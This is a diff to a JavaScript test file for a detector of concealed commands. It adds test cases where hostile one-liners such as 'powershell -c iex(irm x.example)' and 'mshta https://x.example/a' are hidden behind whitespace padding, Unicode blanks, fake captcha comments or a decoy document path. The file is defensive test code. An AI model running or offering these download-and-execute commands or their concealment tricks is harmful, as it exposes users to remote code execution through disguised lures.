@@ -140,6 +140,10 @@ describe('the command recogniser', () => {
 describe('concealment', () => {
   it.each([
     ['padding before a comment', `mshta https://x.example/a${' '.repeat(40)}# verify`],
+    [
+      'padding on a later line',
+      `echo ok\npowershell -c iex(irm x.example)${' '.repeat(40)}C:\\HR\\Policy.docx`,
+    ],
     ['Unicode spaces', `powershell -c iex(irm x.example)${'\u2800'.repeat(40)}ok`],
     ['a fake check comment', "powershell -c iex(irm x.example) # I'm not a robot: ID 4821"],
     ['a cmd comment', 'cmd /c start x.exe & rem reCAPTCHA verification'],
@@ -155,6 +159,8 @@ describe('concealment', () => {
     'export PATH="$HOME/.local/bin:$PATH"          # aligned comment',
     '    + CategoryInfo          : NotSpecified: (:) [], MethodInvocationException',
     'docker run \\\n  -p 80:80 \\\n  nginx',
+    // The banner a tool prints, shown in its install block (jdx/mise's README): a drawing's gaps.
+    `$ curl https://mise.run | sh\n$ ~/.local/bin/mise --version\n${' '.repeat(14)}_${' '.repeat(40)}__\n   ____ ___  (_)_______        ___  ____`,
   ])('is not read in a plain command: %s', (text) => {
     expect(conceals(text)).toBe(false);
   });
